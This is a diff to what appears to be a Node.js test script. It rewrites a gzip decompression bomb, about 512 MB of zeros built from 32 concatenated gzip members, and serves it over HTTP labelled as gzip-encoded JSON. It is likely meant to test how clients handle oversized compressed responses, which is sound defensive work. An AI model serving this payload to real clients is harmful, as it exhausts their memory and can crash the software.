@@ -17,20 +17,11 @@ function serve(handler) {
   return server;
 }
 const zlib = require('node:zlib');
-const gzip = zlib.createGzip({ level: 9 });
-const parts = [];
-gzip.on('data', (c) => parts.push(c));
-gzip.on('end', () => {
-  const bomb = Buffer.concat(parts);
-  console.log(`BOMB ${bomb.length} bytes`);
-  serve((req, res) => {
-    res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
-    res.end(bomb);
-  });
+// Gzip members concatenate into one valid stream: 32 copies of 16 MB of zeros, ~512 MB unpacked.
+const member = zlib.gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
+const bomb = Buffer.concat(Array.from({ length: 32 }, () => member));
+console.log(`BOMB ${bomb.length} bytes`);
+serve((req, res) => {
+  res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
+  res.end(bomb);
 });
-const zeros = Buffer.alloc(1024 * 1024);
-let left = 512;
-(function write() {
-  while (left > 0) { left--; if (!gzip.write(zeros)) return gzip.once('drain', write); }
-  gzip.end();
-})();
